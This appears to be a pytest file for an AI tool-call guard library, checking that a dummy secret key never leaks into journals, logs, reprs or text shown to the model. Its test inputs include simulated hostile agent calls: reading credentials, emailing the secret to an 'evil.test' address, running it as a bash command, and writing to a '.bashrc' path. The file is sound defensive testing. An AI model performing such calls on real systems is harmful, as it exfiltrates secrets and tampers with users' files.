"""Case 147: the model never saw the secret, and the program's own records hold it.

A secret stands in what is typed, pasted, admitted, proposed, returned and raised, in calls that are allowed, asked,
denied and malformed. It is in no entry of the journal, in no text for the model or for a person, in no log and in no
`repr`; what is kept are digests and lengths. The honest twin: the tool gets the value, and its caller the result.
"""

from __future__ import annotations

import logging

import pytest

from interlock import Conversation, Interlock, MemoryJournal
from tests.cases.desk import MANIFEST, Engine, did, shared

SECRET = "sk-7H1S1sS3cr3t"


def test_attack_it_is_written_nowhere(caplog: pytest.LogCaptureFixture) -> None:
    journal = MemoryJournal()
    failing: list[bytes] = []

    def say(document: bytes) -> object:
        if failing:
            raise RuntimeError(SECRET)
        return shared().engine.evaluate(document)

    conversation = Conversation.new()
    guard = Interlock(manifest=MANIFEST, journal=journal, engine=Engine(say)).guard(conversation)
    shown: list[str] = []
    with caplog.at_level(logging.DEBUG):
        conversation.say(f"my key is {SECRET}, see https://corp.example/{SECRET} and {SECRET}@corp.example")
        conversation.say(SECRET, pasted=True)
        guard.admit(SECRET, labels=["untrusted:memory"], source="memory 7")
        outcomes = [
            did(guard, "read_credentials", {"path": SECRET}, OSError(SECRET)),
            did(guard, "send_email", {"to": f"{SECRET}@evil.test", "body": SECRET}),
            did(guard, "bash", {"command": SECRET}),
            did(guard, "write_file", {"path": f"{SECRET}/.bashrc", "text": SECRET}),
            did(guard, "delete_mail", {"id": SECRET}),
            did(guard, "nobody", {SECRET: SECRET}),
            did(guard, SECRET + "\n", {}),
            did(guard, "calc", {SECRET: 2**70}),
            did(guard, "calc", SECRET),
            did(guard, "calc", {"x": "\0" + SECRET}),
        ]
        failing.append(b"")
        outcomes.append(did(guard, "calc", {"expression": SECRET}))
        for outcome in outcomes:
            shown.append(outcome.for_model)
            shown.append(repr(outcome.decision))
            logging.getLogger("interlock").info("told: %s", outcome.decision.reasons)
    bodies = b"".join(sealed.body for sealed in journal.entries(conversation.id))
    assert {outcome.verdict.value for outcome in outcomes} == {"allow", "ask", "deny"}
    assert len(bodies) > 1000
    assert SECRET.encode() not in bodies
    assert SECRET not in "".join(shown)
    assert SECRET not in caplog.text
    assert SECRET not in repr(conversation)
    assert SECRET not in repr(journal.state(conversation.id))


def test_attack_what_is_kept_can_not_be_told_from_another_value_of_the_same_length() -> None:
    journals = []
    for value in (SECRET, SECRET[::-1]):
        journal = MemoryJournal()
        guard = Interlock(manifest=MANIFEST, journal=journal).guard(Conversation.new())
        did(guard, "read_credentials", {}, value)
        journals.append([len(sealed.body) for sealed in journal.entries(guard.conversation.id)])
    assert journals[0] == journals[1]


def test_honest_who_works_with_it_gets_it() -> None:
    given: list[str] = []
    guard = shared().guard(Conversation.new())
    outcome = guard.call("read_credentials", {"path": SECRET}, run=lambda path: given.append(path) or SECRET)
    assert given == [SECRET]
    assert outcome.result == outcome.for_model == SECRET
